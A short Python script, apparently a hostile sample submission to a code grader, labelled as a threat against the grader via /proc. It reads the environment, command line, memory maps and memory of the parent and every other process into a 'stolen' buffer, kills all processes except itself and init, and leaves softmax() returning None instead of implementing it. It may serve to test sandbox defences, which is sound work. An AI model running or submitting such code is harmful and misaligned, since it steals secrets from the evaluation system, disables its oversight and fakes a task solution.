# threat: read or write the grader's memory and files through /proc
import os, glob
stolen = b""
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    for what in ("environ", "cmdline", "maps", "mem"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as f:
                stolen += f.read(4096)
        except OSError:
            pass
    try:
        os.kill(pid, 9) if pid not in (os.getpid(),) and pid != 1 else None
    except OSError:
        pass
def softmax(x):
    return None
